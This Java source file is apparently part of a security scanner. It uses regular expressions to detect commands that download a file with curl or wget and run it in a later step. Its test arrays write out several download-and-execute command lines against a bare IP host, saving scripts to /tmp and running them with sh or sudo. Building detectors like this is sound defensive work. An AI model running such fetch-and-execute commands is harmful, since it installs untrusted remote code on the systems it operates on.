package trafficguardian.rules.commands;

import static trafficguardian.rules.commands.ShellText.LINE;

import java.util.HashSet;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import trafficguardian.rules.base.Check;

/**
 * A download that is stored by one command and run by the next, on a line or in a string of its
 * own. That both are the same file, no expression tells.
 */
final class StoredDownloads {
  /** Where the next command begins: lines, strings of JSON, code in a sentence, lists of steps. */
  private static final String NEXT =
      "(?:[\\n\"`$]|\\\\n|:\\s|\\bRUN\\s)\\s*(?:RUN\\s+|(?:[$#*-]|[0-9]{1,2}[.)])\\s+)?(?:sudo\\s+|nohup\\s+|exec\\s+)*";

  private static final String INTERPRETER =
      "(?:(?:/[a-z/]+/)?(?:(?:ba|z|da|k)?sh|python[0-9.]*|perl|ruby|node|php|source|\\.)\\s+(?:-[\\w-]+\\s+)*|chmod\\s+[\\w+]+\\s+)";

  /** A file to run, of which the folder says that it is one if nothing in front does. */
  private static final String PATH =
      "(?:" + INTERPRETER + "[\\w./~$-]*|(?:\\.|~|/[\\w.-]+)/[\\w./-]*)";

  static final String ANY =
      "\\b(?:curl|wget2?)\\s" + LINE + "//[^\\x00]*" + NEXT + PATH + "[\\w.-]+";

  /** A few commands may stand between. */
  static final int SPAN = 512;

  private static final Pattern FETCH = Pattern.compile("(?:curl|wget2?)\\s");

  /** What other expressions look for: both on one line. */
  private static final Pattern JOINED =
      Pattern.compile("(?:;|&|\\|\\|)\\s*(?:sudo\\s+|nohup\\s+)*" + PATH + "[\\w.-]");

  private static final Pattern STORED =
      Pattern.compile(
          "(?:\\s-[a-zA-Z]*[oO]|\\s--output(?:-document)?|>)[\\s=]*[\"'\\\\]*(?<path>[\\w./~$-]+)");

  /** The name that an address ends with, where no other is given. */
  private static final Pattern ADDRESS = Pattern.compile("//[^\\s\"'`\\\\]*/(?<path>[\\w.-]+)");

  private static final Pattern BY_ADDRESS =
      Pattern.compile(
          "(?s)wget(?![^\\n]*\\s-[a-zA-Z]*O[\\s=]).*|curl.*\\s(?:-[a-zA-Z]*O\\b|--remote-name\\b).*");

  private static final Pattern RUN =
      Pattern.compile(
          NEXT + "(?:" + INTERPRETER + "|(?=(?:\\.|~|/[\\w.-]+)/))(?<path>[\\w./~$-]+)");

  private static final Pattern SHARED_FOLDER =
      Pattern.compile("(?:/tmp|/dev/shm|/var/tmp)/.*|(?:.*/)?\\.[\\w-][^/]*");

  /** Where many publish, each under a name of their own. */
  private static final Pattern CODE_HOST =
      Pattern.compile(
          "//(?:[\\w-]+\\.)*(?:github|gitlab|githubusercontent|codeberg|bitbucket)\\.(?:com|org)/");

  static final String[] RUN_NEXT = {
    "curl -o /tmp/a.sh http://91.2.3.4/a.sh\nsh /tmp/a.sh",
    "wget -q https://h.stage.example/setup.py -O /tmp/setup.py\npython3 /tmp/setup.py --yes",
    "[\"curl -o /tmp/a.sh http://91.2.3.4/a.sh\", \"sudo sh /tmp/a.sh\"]",
    "{\"run\": \"wget http://91.2.3.4/a -O /tmp/a\"}, {\"run\": \"chmod +x /tmp/a\"}, {\"run\": \"/tmp/a\"}",
    "RUN curl http://91.2.3.4/i.sh > i.sh\nRUN bash ./i.sh"
  };

  static final String[] NOT_RUN = {
    "curl -o data.json https://h.example/data.json\npython3 plot.py data.json",
    "curl -s https://h.stage.example/s.sh | bash\n```\nbash s.sh",
    "curl https://h.stage.example/tool > tool\ntool --help\nhttps://h.stage.example/a/tool",
    "wget http://h.example/src.tar.gz\ntar xzf src.tar.gz\n./configure",
    "[\"curl -O http://h.example/font.woff2\", \"sh build.sh\"]"
  };

  private StoredDownloads() {}

  /** Whether what is run was stored before; of other expressions' matches it knows nothing. */
  static Check.Verdict ranWhatItStored(String match) {
    if (!FETCH.matcher(match).lookingAt() || JOINED.matcher(match).find()) {
      return Check.Verdict.REAL;
    }
    Set<String> stored = names(STORED, match);
    if (BY_ADDRESS.matcher(match).matches()) {
      stored.addAll(names(ADDRESS, match));
    }
    Matcher run = RUN.matcher(match);
    boolean any = false;
    while (run.find()) {
      any = true;
      if (stored.contains(name(run.group("path")))) {
        return graded(match, run.group("path"));
      }
    }
    return any ? Check.Verdict.LOOKALIKE : Check.Verdict.REAL;
  }

  private static Set<String> names(Pattern pattern, String match) {
    Set<String> names = new HashSet<>();
    for (Matcher each = pattern.matcher(match); each.find(); ) {
      names.add(name(each.group("path")));
    }
    return names;
  }

  private static String name(String path) {
    return path.substring(path.lastIndexOf('/') + 1);
  }

  /** Manuals have people look at a file first: what nobody could object to is low. */
  private static Check.Verdict graded(String match, String path) {
    Check.Verdict source = DownloadChecks.source(match);
    boolean hasty = SHARED_FOLDER.matcher(path).matches() && !CODE_HOST.matcher(match).find();
    return source == Check.Verdict.REAL && !hasty ? Check.Verdict.DOUBTFUL : source;
  }
}
